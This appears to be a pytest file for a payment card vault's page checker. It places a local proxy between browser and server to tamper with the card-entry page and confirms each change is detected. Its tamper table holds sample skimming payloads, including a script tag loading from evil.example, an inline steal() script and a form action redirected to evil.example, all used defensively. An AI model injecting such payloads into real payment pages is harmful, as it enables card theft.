"""`cardvault check --page`: the card page as browsers get it, held against this build, with somebody in between who changes it."""

import http.client
import http.server
import json
import pathlib
import re
import subprocess
import threading

import pytest

from harness import places
from harness.vault import run


class Between:
    """A proxy before the public listener that may change what goes through it."""

    def __init__(self, public: str):
        between, authority = self, public.removeprefix("http://")
        self.change = lambda path, fields, body: (fields, body)

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                connection = http.client.HTTPConnection(authority, timeout=30)
                connection.request("GET", self.path, headers={"Accept-Language": self.headers["Accept-Language"]})
                answer = connection.getresponse()
                own = [(name, value) for name, value in answer.getheaders() if name not in ("Content-Length", "Date")]
                fields, body = between.change(self.path, own, answer.read())
                self.send_response(answer.status)
                for name, value in [*fields, ("Content-Length", str(len(body)))]:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)
                connection.close()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def between(vault):
    between = Between(vault.public)
    yield between
    between.server.shutdown()
    between.server.server_close()


def session(vault, shop, between):
    """A session's address, reached through who stands between."""
    wish = {"returnUrl": "https://shop.example.kz/back?a=1&b=2", "cardSave": True}
    made = shop.post("/accounts/customer-1/card-entry-sessions", wish).expect(201).json
    return made["url"].replace(vault.public, between.url)


def check(vault, url, code):
    done = vault.run("check", "--page", url, "--json")
    assert done.returncode == code, done.stdout + done.stderr
    return {check["check"]: check for check in json.loads(done.stdout)["checks"]}


def test_the_page_of_this_build_is_in_order(vault, shop, between):
    url = session(vault, shop, between)
    checks = check(vault, url, 0)
    assert {name: found["state"] for name, found in checks.items()} == dict.fromkeys(["page.headers", "page.document", "page.files", "page.key"], "ok")
    inventory = checks["page.files"]["measures"]["inventory"]
    assert len(inventory) == 5 and all(file["integrity"].startswith("sha256-") for file in inventory)
    # Straight from the vault, and for people.
    done = vault.run("check", "--page", url.replace(between.url, vault.public))
    assert done.returncode == 0 and "page.document" in done.stdout
    # Looking binds the session to nobody.
    assert shop.get("/events").json["events"] == []


TAMPERED = {
    "a script more": ("page.document", lambda body: body.replace(b"</head>", b'<script src="https://evil.example/a.js"></script></head>')),
    "a script in the page": ("page.document", lambda body: body.replace(b"</body>", b"<script>steal()</script></body>")),
    "a script without its digest": ("page.document", lambda body: body.replace(b'integrity="sha256-', b'data-x="sha256-', 3)),
    "a form that leads away": ("page.document", lambda body: body.replace(b'action="?lang=en"', b'action="https://evil.example/"')),
    "a field with a name": ("page.document", lambda body: body.replace(b'id="card-number"', b'id="card-number" name="pan"')),
    "a key of somebody else's": ("page.key", lambda body: body.replace(b'data-key="MII', b'data-key="MIJ')),
}


@pytest.mark.parametrize("what", TAMPERED)
def test_a_page_that_was_tampered_with_is_found(vault, shop, between, what):
    place, change = TAMPERED[what]
    url = session(vault, shop, between)

    def tamper(path, fields, body):
        changed = change(body) if path.startswith("/card-entry/") else body
        assert changed != body or not path.startswith("/card-entry/")
        return fields, changed

    between.change = tamper
    checks = check(vault, url, 1)
    assert [name for name, found in checks.items() if found["state"] != "ok"] == [place]


def test_a_file_or_a_header_that_was_tampered_with_is_found(vault, shop, between):
    url = session(vault, shop, between)
    between.change = lambda path, fields, body: (fields, body + b"//" if "card-entry-" in path else body)
    assert check(vault, url, 1)["page.files"]["state"] == "failed"
    between.change = lambda path, fields, body: ([field for field in fields if field[0] != "Content-Security-Policy"], body)
    assert check(vault, url, 1)["page.headers"]["state"] == "failed"
    between.change = lambda path, fields, body: ([*fields, ("Content-Security-Policy-Report-Only", "default-src *")], body)
    assert check(vault, url, 1)["page.headers"]["state"] == "failed"


def test_what_is_no_card_page_is_said_so(vault, shop, between):
    url = session(vault, shop, between)
    assert check(vault, url[:-4] + "aaaa", 1)["page.headers"]["state"] == "failed"
    assert check(vault, "http://127.0.0.1:1/card-entry/x", 1)["page.headers"]["summary"].startswith("the page cannot be had")
    for wrong in ["http://cards.example.kz/card-entry/x", "nonsense", vault.public + "/3ds/x"]:
        done = vault.run("check", "--page", wrong)
        assert done.returncode == 1 and "--page takes" in done.stderr
    assert "--page looks" in vault.run("check", "--page", url, "--full").stderr
    # Without a configuration everything but the key can be told.
    alone = run("check", "--page", url, "--json", "--config", "/nonexistent")
    states = {found["check"]: found["state"] for found in json.loads(alone.stdout)["checks"]}
    assert states == {"page.headers": "ok", "page.document": "ok", "page.files": "ok", "page.key": "skipped"} and alone.returncode == 0


def test_the_commands_of_the_page_that_tells_how_do_it(vault, shop):
    """docs/operating.md has the commands for a timer; here they run as they stand."""
    page = (places.ROOT / "docs" / "operating.md").read_text()
    (block,) = re.findall(r"<!-- check-the-page -->\n```sh\n(.*?)```", page, re.S)
    environment = places.environment() | {"key": shop.key, "api": vault.api + "/v1", "config": str(vault.config_file)}
    environment["PATH"] = f"{pathlib.Path(places.program('cardvault')).parent}:{environment['PATH']}"
    done = subprocess.run(["bash", "-euo", "pipefail", "-c", block], env=environment, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and "not ours" not in done.stderr, done.stderr
    assert "4 ok" in done.stdout
